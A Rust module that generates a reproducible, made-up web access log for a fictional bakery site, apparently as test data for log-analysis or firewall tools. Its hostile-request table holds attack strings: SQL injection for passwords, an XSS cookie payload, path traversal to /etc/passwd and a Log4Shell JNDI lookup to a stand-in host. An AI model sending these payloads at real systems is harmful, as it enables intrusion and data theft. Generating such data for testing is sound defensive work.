//! The made-up log of a small public site, the same bytes for the same arguments.

use std::borrow::Cow;
use std::io::{self, Write};
use std::net::{Ipv4Addr, Ipv6Addr};

use afw_parsers::Time;

const ADDRESSES: u64 = 50_000;
const HOSTILE_PER_MILLE: u64 = 80;
const START_SECS: i64 = 1_767_225_600; // 2026-01-01T00:00:00Z

const SITE: &str = "https://www.bakery.example";
const PAGES: [&str; 12] = [
    "/",
    "/about",
    "/products",
    "/products/42",
    "/blog",
    "/blog/how-we-bake",
    "/contact",
    "/cart",
    "/search?q=rye+bread",
    "/news/2026/01/opening-hours",
    "/faq",
    "/api/v1/items?page=2&sort=price",
];
/// How many of them link to others; an API does not.
const LINKING: usize = 11;
const ASSETS: [&str; 10] = [
    "/static/css/app.3f9d1c72.css",
    "/static/js/app.b81e04aa.js",
    "/static/logo.svg",
    "/img/hero-1200.webp",
    "/img/bread.jpg",
    "/favicon.ico",
    "/wp-content/themes/bakery/style.css",
    "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1",
    "/fonts/inter-latin-400-normal.woff2",
    "/robots.txt",
];
/// Where visitors come from who did not follow a link of the site; browsers send most of them no more than the host.
const ELSEWHERE: [&str; 3] = [
    "https://www.google.com/",
    "https://duckduckgo.com/",
    "https://news.example/local/best-bakeries?utm_source=frontpage",
];
const BROWSERS: [&str; 8] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36 Edg/143.0.0.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram 361.0.0.35.82 (iPhone16,2; iOS 18_5; de_DE; de; scale=3.00; 1290x2796; 674117118)",
    "Mozilla/5.0 (Linux; Android 14; SM-A546B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/143.0.7499.34 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/495.0.0.45.201;]",
];
const ROBOTS: [&str; 4] = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
    "UptimeRobot/2.0; http://www.uptimerobot.com/",
];
const HOSTILE: [(&str, &str, u16, &str); 14] = [
    ("GET", "/.env", 404, "python-requests/2.32.3"),
    ("GET", "/.git/config", 404, "Mozilla/5.0"),
    (
        "GET",
        "/wp-login.php",
        404,
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
    ),
    (
        "POST",
        "/xmlrpc.php",
        404,
        "Mozilla/5.0 (X11; Ubuntu; Linux x86_64)",
    ),
    ("GET", "/phpmyadmin/index.php", 404, "Mozilla/5.0 zgrab/0.x"),
    ("GET", "/cgi-bin/%2e%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh", 400, "-"),
    (
        "GET",
        "/?id=1%27%20UNION%20SELECT%201,2,concat(user,0x3a,password)%20FROM%20users--%20-",
        200,
        "sqlmap/1.8.4#stable (https://sqlmap.org)",
    ),
    (
        "GET",
        "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        200,
        "Mozilla/5.0",
    ),
    (
        "GET",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        404,
        "Go-http-client/1.1",
    ),
    ("GET", "/actuator/env", 404, "curl/8.11.0"),
    (
        "GET",
        "/?x=${jndi:ldap://198.51.100.9:1389/a}",
        200,
        "Mozilla/5.0",
    ),
    (
        "GET",
        "/backup.sql.gz",
        404,
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    ),
    ("GET", "/config.json", 404, "l9explore/1.2.2"),
    ("GET", "/..%252f..%252f..%252fetc/passwd", 400, "masscan/1.3"),
];

/// SplitMix64: small, seedable, the same everywhere.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        mix(self.0)
    }

    fn below(&mut self, bound: u64) -> u64 {
        self.next() % bound
    }

    fn pick<T: Copy>(&mut self, of: &[T]) -> T {
        of[self.below(of.len() as u64) as usize]
    }

    /// Zipf-like with exponent near 1 over `0..bound`: the product of two uniform draws favours small ranks.
    fn rank(&mut self, bound: u64) -> u64 {
        let unit = (self.next() >> 11) as f64 / (1u64 << 53) as f64;
        ((bound as f64).powf(unit) - 1.0) as u64
    }
}

fn mix(mut z: u64) -> u64 {
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// The address of a rank: public unicast space, one in twelve IPv6.
fn address(rank: u64, salt: u64) -> String {
    let bits = mix(rank ^ salt);
    if rank % 12 == 5 {
        let [a, b, c] = [bits as u16, (bits >> 16) as u16, (bits >> 32) as u16];
        return Ipv6Addr::new(0x2a02, a & 0x0fff, b, c, 0, 0, 0, (rank as u16) | 1).to_string();
    }
    const FIRST: [u8; 12] = [5, 31, 45, 62, 77, 81, 91, 109, 138, 176, 185, 212];
    let first = FIRST[(bits % 12) as usize];
    Ipv4Addr::new(
        first,
        (bits >> 8) as u8,
        (bits >> 16) as u8,
        ((bits >> 24) as u8).max(1),
    )
    .to_string()
}

fn line(out: &mut impl Write, random: &mut Random, secs: i64, own: u64) -> io::Result<()> {
    let hostile = random.below(1000) < HOSTILE_PER_MILLE;
    let dice = random.below(100);
    let (ip, method, target, status, agent, referrer, size);
    if hostile {
        let case = random.pick(&HOSTILE);
        (method, target, status, agent) = (case.0, case.1, case.2, case.3);
        ip = address(random.rank(400), 0xBAD);
        (referrer, size) = (Referrer::None, random.below(600));
    } else {
        let rank = random.rank(ADDRESSES);
        ip = address(rank, 0x600D);
        let robot = rank % 40 == 7;
        agent = if robot {
            random.pick(&ROBOTS)
        } else {
            BROWSERS[(mix(rank) % 8) as usize]
        };
        method = if dice == 0 { "POST" } else { "GET" };
        let asset = dice < 55;
        target = random.pick(if asset { &ASSETS[..] } else { &PAGES[..] });
        referrer = referrer_of(random, robot, asset);
        status = match dice {
            97 => 404,
            98 => 301,
            94..97 => 304,
            _ => 200,
        };
        size = random.below(60_000);
    }
    let (target, referrer) = own_words(random, own, target, &referrer);
    let civil = Time::from_secs(secs).unwrap_or_default().civil();
    const MONTHS: [&str; 12] = [
        "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
    ];
    let month = MONTHS[(civil.month as usize - 1) % 12];
    writeln!(
        out,
        "{ip} - - [{:02}/{month}/{}:{:02}:{:02}:{:02} +0000] \"{method} {target} HTTP/1.1\" {status} {size} \"{referrer}\" \"{agent}\"",
        civil.day, civil.year, civil.hour, civil.minute, civil.second
    )
}

/// Where a request comes from.
enum Referrer {
    /// Nowhere: a robot, or an address that was typed.
    None,
    /// A page of the site.
    Page(&'static str),
    /// Another site.
    Elsewhere(&'static str),
}

/// Assets come from the page that shows them, pages mostly from one that links to them.
fn referrer_of(random: &mut Random, robot: bool, asset: bool) -> Referrer {
    match random.below(100) {
        _ if robot => Referrer::None,
        _ if asset => Referrer::Page(random.pick(&PAGES[..LINKING])),
        0..55 => Referrer::Page(random.pick(&PAGES[..LINKING])),
        55..75 => Referrer::Elsewhere(random.pick(&ELSEWHERE)),
        _ => Referrer::None,
    }
}

/// Target and referrer as the log has them, in so many of a hundred requests as nobody else words them: with a number
/// behind the one, and from one page of thousands.
fn own_words(
    random: &mut Random,
    own: u64,
    target: &'static str,
    referrer: &Referrer,
) -> (Cow<'static, str>, Cow<'static, str>) {
    let is_own = own > 0 && random.below(100) < own;
    let referrer = match referrer {
        Referrer::None => "-".into(),
        Referrer::Elsewhere(site) => (*site).into(),
        Referrer::Page(_) if is_own => {
            let page = random.rank(20_000);
            format!("{SITE}/products/{page}?utm_source=newsletter").into()
        }
        Referrer::Page(page) => format!("{SITE}{page}").into(),
    };
    if !is_own {
        return (target.into(), referrer);
    }
    let joint = if target.contains('?') { '&' } else { '?' };
    let target = format!("{target}{joint}id={}", random.below(1_000_000_000));
    (target.into(), referrer)
}

/// Writes so many lines, of which `own` in a hundred have words of their own.
///
/// # Errors
/// What writing to `out` says.
pub fn write(out: &mut impl Write, lines: u64, seed: u64, own: u64) -> io::Result<()> {
    let mut random = Random(seed);
    let mut millis = 0;
    for _ in 0..lines {
        millis += random.below(80) as i64;
        line(out, &mut random, START_SECS + millis / 1000, own)?;
    }
    Ok(())
}
